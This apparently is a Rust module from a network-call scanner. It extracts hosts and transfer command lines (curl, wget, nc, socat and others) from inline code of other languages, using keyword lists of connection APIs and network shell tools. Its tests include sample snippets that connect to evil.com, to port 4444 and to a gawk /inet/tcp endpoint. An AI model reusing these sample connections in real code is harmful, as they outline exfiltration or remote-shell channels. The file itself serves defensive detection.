//! Hosts in the code of other languages, given on the command line or as a here-document.
//!
//! Promises to find what is written out: addresses with a scheme anywhere, and names in quotation marks where the code also
//! speaks of connections. Code that puts an address together is not seen through.

use super::address::{self, Reading};

/// What code says that opens connections.
const CONNECTS: [&str; 26] = [
    "socket",
    "connect",
    "HTTPConnection",
    "HTTPSConnection",
    "TCPSocket",
    "UDPSocket",
    "Net::HTTP",
    "IO::Socket",
    "fsockopen",
    "smtplib",
    "ftplib",
    "telnetlib",
    "paramiko",
    "http.get",
    "https.get",
    "http.request",
    "https.request",
    "dgram",
    "dns.",
    "gethostby",
    "getaddrinfo",
    "TCPClient",
    "TcpClient",
    "WebClient",
    "WebSocket",
    "XMLRPC",
];
/// The file that stands for a connection in `gawk`: protocol, local port, host, port.
const AWK_NETWORK: &str = "/inet";

/// What the code names.
pub(super) fn read(code: &str) -> Vec<Reading> {
    let mut found = address::mentions(code);
    for (at, _) in code.match_indices(AWK_NETWORK) {
        let mut parts = code.get(at..).unwrap_or_default().splitn(7, '/').skip(1);
        let family = parts.next();
        if matches!(family, Some("inet" | "inet4" | "inet6")) {
            found.extend(parts.nth(2).into_iter().flat_map(|host| address::host(host.trim_matches('"'))));
        }
    }
    if CONNECTS.iter().any(|word| code.contains(word)) {
        for mark in ['\'', '"', '`'] {
            let quoted = code.split(mark).skip(1).step_by(2);
            found.extend(quoted.filter(|text| is_host_literal(text)).flat_map(address::host));
        }
    }
    found
}

/// What code says that runs other commands.
const RUNS: [&str; 12] = [
    "system",
    "exec",
    "popen",
    "Popen",
    "spawn",
    "subprocess",
    "check_output",
    "check_call",
    "%x",
    "qx",
    "`",
    "sh(",
];
/// Programs whose command lines are looked for in code; other names are words of too many languages.
const TRANSFERS: [&str; 12] =
    ["curl", "wget", "nc", "ncat", "ssh", "scp", "sftp", "rsync", "telnet", "socat", "ftp", "git"];

/// The command lines in code that runs commands: pieces between its marks that start with the name of a transfer.
pub(super) fn command_lines(code: &str) -> impl Iterator<Item = &str> {
    let runs = RUNS.iter().any(|word| code.contains(word));
    code.split(['\'', '"', '`', '(', ')', ';', '|', '&', '\n', '{', '}'])
        .filter(move |_| runs)
        .map(str::trim)
        .filter(|piece| piece.split_whitespace().next().is_some_and(|first| TRANSFERS.contains(&first)))
}

/// A name that is shaped like a host and not like the name of a file or a module.
fn is_host_literal(text: &str) -> bool {
    const FILES: [&str; 40] = [
        "py", "js", "ts", "json", "txt", "md", "html", "css", "log", "sock", "conf", "cfg", "ini", "yaml",
        "yml", "toml", "xml", "csv", "sh", "rb", "pl", "php", "lua", "rs", "go", "db", "sqlite", "pem",
        "key", "crt", "lock", "mjs", "cjs", "jsx", "tsx", "path", "environ", "request", "client", "get",
    ];
    let host = text.split(':').next().unwrap_or(text);
    address::looks_like_host(host) && host.rsplit('.').next().is_some_and(|last| !FILES.contains(&last))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_that_code_writes_out_are_found() {
        for (code, hosts) in [
            ("import urllib.request as u; u.urlopen('https://drop.example.net')", 1),
            ("import socket; socket.create_connection(('evil.com', 443))", 1),
            ("import socket; s.connect((\"10.1.2.3\", 4444))", 1),
            ("BEGIN{s=\"/inet/tcp/0/evil.com/80\"; print x |& s}", 1),
            ("require('net').connect(80, 'evil.com')", 1),
            ("fetch('http://localhost:3000/x')", 0),
            ("import socket; print(socket.gethostname())", 0),
            ("import socket; open('a.txt'); socket.connect(('127.0.0.1', 80))", 0),
            ("print('evil.com')", 0),
            ("console.log(1)", 0),
        ] {
            assert_eq!(read(code).len(), hosts, "{code}");
        }
    }
}
